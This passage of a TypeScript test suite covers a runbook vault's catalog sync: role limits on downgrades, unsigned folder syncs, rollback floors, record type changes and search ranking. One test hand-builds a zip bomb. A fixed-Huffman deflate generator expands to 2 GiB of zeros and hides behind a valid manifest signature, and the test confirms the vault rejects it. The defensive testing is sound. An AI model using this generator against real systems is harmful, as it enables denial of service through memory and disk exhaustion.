    const skew = byKey(session, SKEW);
    await rm(join(folder, SKEW));
    await sync(session, await pack(folder, 2));
    await editRecord(session, skew.id, { set: { tags: ['kept-locally'] } });
    await cp(join(RUNBOOKS, 'node/NodeClockSkewDetected.md'), join(folder, SKEW));
    await sync(session, await pack(folder, 3));
    expect(byKey(session, SKEW).data['tags']).toEqual(['kept-locally']);
    expect(byKey(session, SKEW).data['archived']).toBeUndefined();
    expect(searchRecords(session, 'clock skew').hits.map((h) => h.id)).toContain(skew.id);
  });

  it('a downgrade: an owner may allow it (logged with downgradeFrom), a commander may not', async () => {
    const { dir, session } = await trustedVault();
    await addMember(session, { name: 'bob', role: 'commander', passphrase: PASSPHRASES['bob'] ?? '' });
    await addMember(session, { name: 'dave', role: 'responder', passphrase: PASSPHRASES['dave'] ?? '' });
    const folder = await opsFolder();
    const v1 = await pack(folder, 1);
    await sync(session, v1);
    await appendFile(join(folder, RAID), '\nVersion 2 text.\n');
    await sync(session, await pack(folder, 2));

    // A commander syncs catalogs, but cannot allow a downgrade.
    const bob = await relock(session, dir, 'bob');
    await expectRefusedUnchanged(bob, dir, v1, { allowDowngrade: true }, 'VAULT_FORBIDDEN');
    await expectRefusedUnchanged(bob, dir, v1, {}, 'CATALOG_ROLLBACK');
    await appendFile(join(folder, RAID), '\nVersion 3 text.\n');
    const v3 = await pack(folder, 3);
    expect((await sync(bob, v3)).applied?.changed).toBe(1);
    // A responder cannot sync at all.
    const dave = await relock(bob, dir, 'dave');
    await expectRefusedUnchanged(dave, dir, await pack(folder, 4), {}, 'VAULT_FORBIDDEN');

    // The owner can, and it is logged.
    const owner = await relock(dave, dir, 'alice');
    const report = await sync(owner, v1, { allowDowngrade: true });
    expect(report.previousVersion).toBe(3);
    expect(report.diff.changed.map((c) => c.key)).toEqual([RAID]);
    expect(appliedVersions(owner)).toEqual({ [CATALOG_ID]: 1 });
    expect(String(byKey(owner, RAID).data['body'])).not.toContain('Version 2 text.');
    expect(syncEvents(owner).map((e) => [e['actor'], e['version'], e['downgradeFrom']])).toEqual([
      ['alice', 1, undefined],
      ['alice', 2, undefined],
      ['bob', 3, undefined],
      ['alice', 1, 3],
    ]);
  });
});

describe('an unsigned folder sync', () => {
  it('is for the owner only, logged as unsigned, and flags every record it creates', async () => {
    const { dir, session } = await trustedVault();
    await addMember(session, { name: 'bob', role: 'commander', passphrase: PASSPHRASES['bob'] ?? '' });
    const folder = await opsFolder();
    const entries = await entriesOf(folder);
    const source: SyncSource = { kind: 'unsigned', dir: folder, catalogId: 'ops-drafts' };

    const bob = await relock(session, dir, 'bob');
    await expectRefusedUnchanged(bob, dir, source, {}, 'VAULT_FORBIDDEN');
    await expectRefusedUnchanged(bob, dir, source, { dryRun: true }, 'VAULT_FORBIDDEN');

    const owner = await relock(bob, dir, 'alice');
    const report = await sync(owner, source);
    expect(report).toMatchObject({ catalogId: 'ops-drafts', signature: 'unsigned', publisher: `unsigned folder ${folder}` });
    const records = catalogRecords(owner, 'ops-drafts');
    expect(records).toHaveLength(entries.length);
    for (const record of records) {
      expect(refOf(record)?.unsigned, record.title).toBe(true);
    }
    expect(syncEvents(owner).at(-1)).toMatchObject({ actor: 'alice', catalogId: 'ops-drafts', signature: 'unsigned', added: entries.length });

    // A record an unsigned sync changes is flagged too.
    await appendFile(join(folder, RAID), '\nDraft note.\n');
    await sync(owner, source);
    expect(refOf(byKey(owner, RAID, 'ops-drafts'))).toMatchObject({ unsigned: true, syncedRevision: 2 });
  });

  // Found by this file and fixed (catalog-apply.ts recordAppliedVersion / catalog-sync.ts checkVersion):
  // an unsigned sync records version 0 for its catalog id, overwriting the version a signed sync of the
  // same id applied, so an older signed catalog is accepted afterwards.
  it('does not lower the rollback floor of a signed catalog with the same id', async () => {
    const { session } = await trustedVault();
    const folder = await opsFolder();
    const v1 = await pack(folder, 1);
    await appendFile(join(folder, RAID), '\nVersion 5 text.\n');
    await sync(session, await pack(folder, 5));
    // Since issue 17 an unsigned folder may not use a signed catalog's id at all (catalog-pins.test.ts).
    await expect(sync(session, { kind: 'unsigned', dir: folder, catalogId: CATALOG_ID })).rejects.toMatchObject({ code: 'CATALOG_UNTRUSTED' });
    expect(appliedVersions(session)[CATALOG_ID]).toBe(5);
    await expect(sync(session, v1)).rejects.toMatchObject({ code: 'CATALOG_ROLLBACK' });
  });
});

describe('a page whose lifeboat.type changes', () => {
  // Found by this file and fixed (record-store.ts put: ON CONFLICT … DO UPDATE leaves `type` out): the
  // catalog turns a runbook into a procedure; the record keeps type "runbook" with procedure data, which
  // no longer validates as a runbook, so a local edit of it fails.
  it('becomes a record of the new type', async () => {
    const { session } = await trustedVault();
    const folder = await opsFolder();
    await sync(session, await pack(folder, 1));
    const raid = byKey(session, RAID);
    expect(raid.type).toBe('runbook');
    const text = await readFile(join(folder, RAID), 'utf8');
    await writeFile(join(folder, RAID), text.replace('weight: 20\n', 'weight: 20\nlifeboat:\n  type: procedure\n'));
    const report = await sync(session, await pack(folder, 2));
    expect(report.diff.changed.map((c) => [c.key, c.type])).toEqual([[RAID, 'procedure']]);
    expect(byKey(session, RAID).type).toBe('procedure');
    await editRecord(session, raid.id, { set: { tags: ['edited'] } });
  });
});

describe('search after syncing the GOV.UK manual', () => {
  it('ranks title matches first and finds words by prefix', async () => {
    const { session } = await trustedVault();
    const folder = await mkdtemp(join(work, 'govuk-'));
    await cp(GOVUK, join(folder, 'manual'), { recursive: true });
    const pages = await entriesOf(folder);
    expect(pages.length).toBeGreaterThan(200);
    const report = await sync(session, await pack(folder, 1, { catalogId: 'govuk-manual' }));
    expect(report.applied?.added).toBe(pages.length);

    const hits = searchRecords(session, 'restore database').hits;
    expect(hits.length).toBeGreaterThan(1);
    const titleMatches = (title: string): boolean => /\brestor|\bdatabase/i.test(title);
    expect(titleMatches(hits[0]?.title ?? ''), JSON.stringify(hits.slice(0, 5).map((h) => h.title))).toBe(true);
    // Titles weigh most, but relevance is BM25F (issue 16): a page about restoring data ("Environment data
    // sync", "Data backups in GOV.UK") may pass a title with one of the words. The database page stays near the top.
    expect(
      hits.slice(0, 5).map((h) => h.title),
      JSON.stringify(hits.map((h) => h.title)),
    ).toContain('Databases on GOV.UK');
    // The page with both words in its title comes first.
    expect(hits[0]?.title).toBe('Backup and restore databases in AWS RDS');
    expect(hits.map((h) => h.score)).toEqual([...hits.map((h) => h.score)].sort((a, b) => b - a));

    // "elastic" finds the Elasticsearch pages by prefix, title matches on top.
    const elastic = searchRecords(session, 'elastic').hits;
    const elasticTitles = pages.map((p) => p.title).filter((t) => /elasticsearch/i.test(t));
    expect(elasticTitles.length).toBeGreaterThanOrEqual(3);
    expect(new Set(elastic.slice(0, elasticTitles.length).map((h) => h.title))).toEqual(new Set(elasticTitles));
    // The first page of hits carries snippets (search-index.ts, SNIPPET_HITS); each marks the prefix.
    for (const hit of elastic.slice(0, 20)) {
      expect(hit.snippet.toLowerCase()).toContain('\u0002elastic');
    }
  });
});

describe('inflating off the main thread (issue 15)', () => {
  /** A page of on-call prose, `bytes` long: seeded words, so it compresses like real Markdown (a few to one), not like a bomb. */
  function prose(random: () => number, bytes: number): string {
    const words = ['restart', 'the', 'replica', 'check', 'disk', 'latency', 'on', 'node', 'etcd', 'quorum', 'lost', 'page', 'oncall', 'drain', 'backup'];
    let text = '';
    while (text.length < bytes) {
      text += `${words[Math.floor(random() * words.length)] ?? 'x'}${random() < 0.1 ? '.\n' : ' '}${Math.floor(random() * 1000)} `;
    }
    return text.slice(0, bytes);
  }

  it('a large legitimate catalog still syncs: 400 runbooks and three near the 5 MiB limit, ~21 MiB', async () => {
    const { session } = await trustedVault();
    const folder = await mkdtemp(join(work, 'large-'));
    await mkdir(join(folder, 'runbooks'));
    const random = mulberry32(15);
    for (let i = 0; i < 400; i += 1) {
      await writeFile(join(folder, 'runbooks', `rb-${i}.md`), `---\ntitle: Runbook ${i}\n---\n\n${prose(random, 20 * 1024)}\n`);
    }
    const big = prose(random, Math.floor(4.5 * 1024 * 1024));
    for (const name of ['big-a', 'big-b', 'big-c']) {
      await writeFile(join(folder, 'runbooks', `${name}.md`), `---\ntitle: The ${name} runbook\n---\n\n${name} ${big}\n`);
    }
    const runsBefore = inflateWorkerRuns();
    const report = await sync(session, await pack(folder, 1));
    expect(report.applied?.added).toBe(403);
    expect(inflateWorkerRuns()).toBe(runsBefore + 1);
    const bigB = listRecords(session).find((r) => r.title === 'The big-b runbook');
    expect(bigB).toBeDefined();
    expect(searchRecords(session, 'big-c').hits.map((h) => h.title)).toContain('The big-c runbook');
  }, 120_000);

  it('a signed catalog whose runbook became a bomb lying about its size: VAULT_BAD_INPUT as before, the vault unchanged', async () => {
    const { dir, session } = await trustedVault();
    const signed = signedBytes(await pack(await opsFolder(), 1));
    // The signature covers the manifest, not the zip's entries: someone who can write the file swaps
    // one runbook's data for 2 GiB of zeros while keeping its declared size (and its name), so the
    // catalog passes every check made before inflating and its signature verifies.
    const files = readCatalogArchive(signed);
    const copies = Math.ceil((2 * 1024 * 1024 * 1024) / 258);
    const entries = [...files].map(([path, bytes]) => ({
      nameBytes: strToU8(path),
      method: METHOD_DEFLATE,
      data: path === RAID ? fixedHuffmanZeros(copies) : deflateSync(bytes),
      crc32: crc32(bytes),
      size: bytes.length,
      externalAttrs: (0o100644 * 0x10000) >>> 0,
    }));
    const bomb: SyncSource = { kind: 'signed', bytes: encodeZip(entries), label: 'bomb.lbcat' };
    const runsBefore = inflateWorkerRuns();
    const started = performance.now();
    await expectRefusedUnchanged(
      session,
      dir,
      bomb,
      {},
      'VAULT_BAD_INPUT',
      `bomb.lbcat: ${RAID}: it inflates to more than the ${files.get(RAID)?.length ?? 0} bytes it declares`,
    );
    expect(performance.now() - started).toBeLessThan(10_000);
    // Refused by the worker thread, after the signature verified.
    expect(inflateWorkerRuns()).toBe(runsBefore + 1);
  });
});

/**
 * A raw deflate stream of one fixed-Huffman block: a literal 0 then `copies` ×
 * <length 258, distance 1>, 13 bits each; it inflates to 1 + 258 × copies zero
 * bytes (~159:1, so a 2 GiB bomb costs ~13 MB). Same as catalog-archive.test.ts.
 */
function fixedHuffmanZeros(copies: number): Uint8Array {
  const out = new Uint8Array(Math.ceil((11 + 13 * copies + 7) / 8) + 1);
  let acc = 0;
  let bits = 0;
  let at = 0;
  const put = (value: number, count: number): void => {
    acc |= value << bits;
    bits += count;
    while (bits >= 8) {
      out[at++] = acc & 0xff;
      acc >>>= 8;
      bits -= 8;
    }
  };
  const reversed = (code: number, length: number): number => {
    let r = 0;
    for (let i = 0; i < length; i += 1) {
      r = (r << 1) | ((code >> i) & 1);
    }
    return r;
  };
  put(1, 1);
  put(1, 2);
  put(reversed(0b00110000, 8), 8);
  for (let i = 0; i < copies; i += 1) {
    put(reversed(0b11000101, 8), 8);
    put(0, 5);
  }
  put(0, 7);
  if (bits > 0) {
    out[at++] = acc & 0xff;
  }
  return out.subarray(0, at);
}
